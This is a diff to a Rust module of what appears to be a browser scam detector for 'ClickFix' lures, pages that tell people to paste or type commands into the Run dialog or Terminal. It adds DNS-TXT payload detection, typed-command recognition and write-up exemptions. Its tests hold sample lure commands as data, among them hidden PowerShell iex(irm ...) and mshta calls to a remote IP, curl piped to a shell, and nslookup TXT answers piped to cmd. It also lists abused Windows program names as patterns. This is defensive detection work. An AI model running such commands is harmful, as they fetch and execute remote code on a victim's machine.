@@ -39,6 +39,10 @@ const HEADING_REACH: usize = 600;
 const GENERIC_VERIFY: f32 = 0.75;
 /// Bytes between an infection word and the reader's machine it is claimed about.
 const CLAIM_REACH: usize = 90;
+/// Words about the attack (distinct, weighted) that make a page a write-up about it.
+const ABOUT_ATTACK: f32 = 2.0;
+/// Candidate lines read for a command a page shows to be typed by hand.
+const TYPED_LINES: usize = 8;
 /// Bytes between two half-weight run places that name one place ("open File Explorer, click the
 /// address bar").
 const RUN_PLACE_PAIR: usize = 120;
@@ -223,6 +227,8 @@ pub struct ClickFix {
     pub instructions: Vec<String>,
     /// The verification pretext found on the page (or in the command's comment).
     pub pretext: Option<String>,
+    /// The page shows the command to be typed by hand; nothing was copied.
+    pub typed: bool,
 }
 
 /// The clipboard text as the recogniser reads it: lowercase, escapes and quotes that only hide
@@ -383,6 +389,15 @@ fn private_ip(host: &str) -> bool {
         || a == 100 && (64..128).contains(&b)
 }
 
+/// `nslookup` whose answer is run: a TXT query, or the output filtered (`findstr`) or iterated
+/// (`for /f`) into the shell. IT pages give a bare `nslookup host` to test a name.
+fn dns_payload(flat: &str) -> bool {
+    has_word(flat, "nslookup")
+        && ["findstr", "for /f", "=txt", "type txt", "| cmd"]
+            .iter()
+            .any(|w| has(flat, w))
+}
+
 /// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`).
 fn piped_to_shell(flat: &str) -> bool {
     const SHELLS: &[&str] = &[
@@ -442,6 +457,8 @@ fn shapes(flat: &str) -> Vec<Shape> {
         "net.webclient",
         "start-bitstransfer",
         "system.net.http",
+        // A DNS TXT record read as code (`(Resolve-DnsName x -Type TXT).Strings | iex`).
+        "resolve-dnsname",
     ]
     .iter()
     .any(|w| has_word(flat, w));
@@ -701,6 +718,8 @@ fn published(flat: &str, windows: bool) -> bool {
 }
 
 /// Reads the copied text. `None` when it is not a command this module recognises.
+/// (Called for the clipboard and the page's lines: one copy in the Wasm.)
+#[inline(never)]
 pub fn recognise(raw: &str) -> Option<Command> {
     let mut raw = raw.to_string();
     truncate_utf8(&mut raw, MAX_CLIPBOARD_BYTES);
@@ -723,7 +742,7 @@ pub fn recognise(raw: &str) -> Option<Command> {
     Some(Command {
         shapes,
         padded: padding.is_some(),
-        remote: has_url(&flat) || has_word(&flat, "finger"),
+        remote: has_url(&flat) || has_word(&flat, "finger") || dns_payload(&flat),
         comment_pretext,
         shown: defang(cmd_part),
         comment: defang(&comment.chars().take(60).collect::<String>()),
@@ -887,6 +906,7 @@ impl PageHits {
                         | Cat::Error
                         | Cat::Infection
                         | Cat::System
+                        | Cat::Awareness
                 )
             })
             .collect();
@@ -1030,6 +1050,7 @@ pub fn apply(found: ClickFix, verdict: &mut Verdict) {
         command,
         instructions,
         pretext,
+        typed,
     } = found;
     let mut add = |id, weight: f32, text: String, sentence: &'static str| {
         verdict.reasons.push(Reason {
@@ -1043,14 +1064,22 @@ pub fn apply(found: ClickFix, verdict: &mut Verdict) {
         verdict.score += weight;
     };
     add(
-        ReasonId::ClipboardCommand,
+        if typed {
+            ReasonId::TypedCommand
+        } else {
+            ReasonId::ClipboardCommand
+        },
         if command.strong() {
             CLICKFIX_COMMAND_STRONG
         } else {
             CLICKFIX_COMMAND
         },
         command.shown.chars().take(60).collect(),
-        english!("The page put a command on the clipboard."),
+        if typed {
+            english!("The page shows a command to type into your computer.")
+        } else {
+            english!("The page put a command on the clipboard.")
+        },
     );
     if !instructions.is_empty() {
         add(
@@ -1103,23 +1132,97 @@ fn join_plus(s: &str) -> String {
 /// The verdict half: the copied text is a command AND the page tells the person to run it
 /// (or dresses it as a verification, or hides it behind padding).
 pub fn assess(clipboard: &str, page: &PageHits) -> Option<ClickFix> {
-    assess_command(recognise(clipboard)?, page)
+    assess_command(recognise(clipboard)?, page, false)
 }
 
 /// [`assess`] for a snapshot: the page's last clipboard write against its title, text and alt
 /// texts. The page text is only normalised again when the copied text is a command.
 pub fn judge(snap: &Snapshot) -> Option<ClickFix> {
-    if snap.clipboard.text.trim().is_empty() {
-        return None;
+    if let Some(command) = recognise(&snap.clipboard.text) {
+        return assess_command(command, &page_of(snap), false);
     }
-    let command = recognise(&snap.clipboard.text)?;
+    // No command copied: a kit may show its command to be typed or pasted by hand. Only a
+    // shape no docs give, with run-dialog or Terminal steps and a story (a human check, a fix,
+    // an update), on a page that does not talk about scams.
+    let command = typed_lines(&snap.text)
+        .into_iter()
+        .filter_map(recognise)
+        .find(Command::strong)?;
+    assess_command(command, &page_of(snap), true)
+}
+
+/// The page's title, text and alt texts, read for ClickFix (one copy in the Wasm).
+#[inline(never)]
+fn page_of(snap: &Snapshot) -> PageHits {
     let parts = [snap.title.as_str(), snap.text.as_str()]
         .into_iter()
         .chain(snap.alt_texts.iter().map(String::as_str));
-    assess_command(command, &PageHits::new(parts).on(&snap.url))
+    PageHits::new(parts).on(&snap.url)
 }
 
-fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
+/// Lines of the page's text that may hold a command (a program name no prose uses starts a
+/// word in them), at most [`TYPED_LINES`], each cut to 400 bytes from the name on when longer.
+fn typed_lines(text: &str) -> Vec<&str> {
+    const NAMES: &[&str] = &[
+        "powershell",
+        "pwsh",
+        "mshta",
+        "base64",
+        "osascript",
+        "msiexec",
+        "certutil",
+        "conhost",
+        "bitsadmin",
+        "regsvr32",
+        "wscript",
+        "cscript",
+        "iex",
+        "irm",
+        "iwr",
+    ];
+    let b = text.as_bytes();
+    let mut out: Vec<&str> = Vec::new();
+    let mut i = 0;
+    while i < b.len() && out.len() < TYPED_LINES {
+        // A name starts a word and ends it (`powershell.exe`, `iex(irm`).
+        let len = b[i..]
+            .iter()
+            .take_while(|c| c.is_ascii_alphanumeric())
+            .count();
+        let name = (i == 0 || !b[i - 1].is_ascii_alphanumeric())
+            && NAMES
+                .iter()
+                .any(|n| n.len() == len && b[i..i + len].eq_ignore_ascii_case(n.as_bytes()));
+        if !name {
+            i += len.max(1);
+            continue;
+        }
+        let start = text[..i].rfind('\n').map_or(0, |j| j + 1);
+        let end = text[i..].find('\n').map_or(text.len(), |j| i + j);
+        let start = if end - start > 400 { i } else { start };
+        let mut stop = end.min(start + 400);
+        while !text.is_char_boundary(stop) {
+            stop -= 1;
+        }
+        let line = &text[start..stop];
+        if !out.contains(&line) {
+            out.push(line);
+        }
+        i = end.max(i + 1);
+    }
+    out
+}
+
+/// `typed`: the command is one the page shows to be typed by hand (nothing was copied); it
+/// needs run-dialog or Terminal steps, a human check or a story, and no word about scams.
+#[inline(never)]
+fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<ClickFix> {
+    // A write-up about ClickFix quotes the lure's steps and command, and its code block's copy
+    // button copies it: words about the attack, the command shown as copied, nothing hidden.
+    let about = page.weight(Cat::Awareness);
+    if about >= ABOUT_ATTACK && page.shows(&command) && !command.padded {
+        return None;
+    }
     let run_dialog = page.weight(Cat::RunDialog) >= 1.0;
     let terminal = page.weight(Cat::RunTerminal) >= 1.0;
     let paste = page.weight(Cat::PasteStep) >= 1.0;
@@ -1195,6 +1298,10 @@ fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
     if !(windows_run || mac_run || pretext || command.padded) {
         return None;
     }
+    let told = verify >= 1.0 || page.story().next().is_some();
+    if typed && (!told || !(run_dialog || terminal) || about >= 1.0) {
+        return None;
+    }
     let mut instructions = Vec::new();
     if windows_run {
         instructions.extend(page.texts(Cat::RunDialog));
@@ -1216,6 +1323,7 @@ fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
         command,
         instructions,
         pretext,
+        typed,
     })
 }
 
@@ -2235,6 +2343,112 @@ mod tests {
         // No clipboard: a CAPTCHA look-alike alone is nothing.
         let v = crate::engine::analyse(&snap("", CAPTCHA), &Options::default());
         assert_eq!(v.level, Level::Safe);
+    }
+
+    #[test]
+    fn dns_answers_run_as_commands() {
+        // The payload comes back as a DNS answer and goes to the shell.
+        let run = "Your connection is broken. To fix it, press Win + R, paste (Ctrl + V), Enter.";
+        for clip in [
+            "cmd /c nslookup -q=txt fix.example-dns.test 203.0.113.5 | findstr v= | cmd",
+            "cmd /c \"for /f \"tokens=*\" %i in ('nslookup x.example-dns.test 203.0.113.5 ^| findstr Name') do %i\"",
+            "powershell -c \"(Resolve-DnsName v.example-dns.test -Type TXT).Strings | iex\"",
+        ] {
+            assert!(judged(clip, run), "{clip}");
+        }
+        // An IT page's name lookup fetches nothing to run.
+        assert!(!judged(
+            "cmd /k nslookup intranet.northfield.test",
+            "Press Win + R, paste and press Enter to see which server answers."
+        ));
+    }
+
+    #[test]
+    fn shell_windows_opened_by_name_and_meeting_lures() {
+        assert!(judged(
+            "powershell -w h -c \"iex(irm http://203.0.113.5/e)\"",
+            "Edge could not be updated. Open Windows Terminal, paste the command, press Enter."
+        ));
+        assert!(judged(
+            "curl -fsSL https://audio-fix.example/m.sh | zsh",
+            "Microphone access is blocked. To fix your microphone: Cmd + Space, Terminal, \
+             paste (Cmd + V) and press Return."
+        ));
+    }
+
+    #[test]
+    fn write_ups_quote_the_command_they_copy() {
+        let cmd = "powershell -w h -c \"iex(irm http://203.0.113.5/v)\"";
+        let blog = format!(
+            "ClickFix explained: a fake CAPTCHA says 'I am not a robot' and tells the victim to \
+             press Win + R, paste with Ctrl + V and press Enter. The command:\n{cmd}\nNever \
+             paste commands a website gives you."
+        );
+        assert!(!judged(cmd, &blog));
+        // Hidden or padded, the same command is a lure's whatever the page says about scams.
+        let steps = "Scam protection: I am not a robot. Press Win + R, Ctrl + V, Enter. ClickFix.";
+        assert!(judged(cmd, steps));
+        let padded = format!("{cmd}{}# I am not a robot", " ".repeat(40));
+        assert!(judged(&padded, &format!("{blog}\n{padded}")));
+    }
+
+    #[test]
+    fn a_command_shown_to_be_typed_by_hand() {
+        use crate::verdict::Options;
+        let v = |url: &str, text: &str| {
+            let snap = Snapshot {
+                url: url.into(),
+                text: text.into(),
+                ..Default::default()
+            };
+            crate::engine::analyse(&snap, &Options::default())
+        };
+        for text in [
+            "Verify you are human\nCopy this code by hand:\n\
+             powershell -w h -c \"iex(irm http://203.0.113.5/v)\"\n\
+             Then press Win + R, paste it with Ctrl + V and press Enter.",
+            "I'm not a robot. Press Win + R, type the following and press Enter:\n\
+             mshta http://203.0.113.5/check",
+            "Safari is out of date. Press Cmd + Space, type Terminal, and type this command:\n\
+             echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUvdSB8IGJhc2g= | base64 -d | bash\n\
+             Press Return.",
+        ] {
+            let got = v("https://check.example/", text);
+            assert_eq!(
+                (got.level, got.kind),
+                (Level::Scam, Kind::Clickfix),
+                "{text}"
+            );
+            assert!(got.reasons.iter().any(|r| r.id == ReasonId::TypedCommand));
+        }
+        // Docs, help pages and write-ups show commands with the same steps.
+        for (url, text) in [
+            (
+                "https://docs.example-tool.test/install",
+                "Windows: press Win + X, choose Terminal (Admin), paste the following command \
+                 and press Enter:\nirm https://get.example-tool.test/install.ps1 | iex",
+            ),
+            (
+                "https://it.northfield.test/help",
+                "Teams audio not working? To fix it, press Win + X, choose Windows PowerShell \
+                 (Admin), paste the command below and press Enter.\n\
+                 irm https://it.northfield.test/scripts/fix-teams-audio.ps1 | iex",
+            ),
+            (
+                "https://securityblog.example/clickfix",
+                "Attackers show an 'I am not a robot' check and tell victims to press Win + R \
+                 and paste:\nmshta http://203.0.113.5/check",
+            ),
+            (
+                "https://windows-tips.example/",
+                "Win + R opens the Run dialog. Type powershell -NoProfile and press Enter.",
+            ),
+        ] {
+            assert_eq!(v(url, text).level, Level::Safe, "{text}");
+        }
+        // Candidate lines start at a program name, not inside a word ("confirm").
+        assert!(typed_lines("confirm the firm's iex").len() == 1);
+        assert!(typed_lines(&"confirm ".repeat(5000)).is_empty());
     }
 
     #[test]
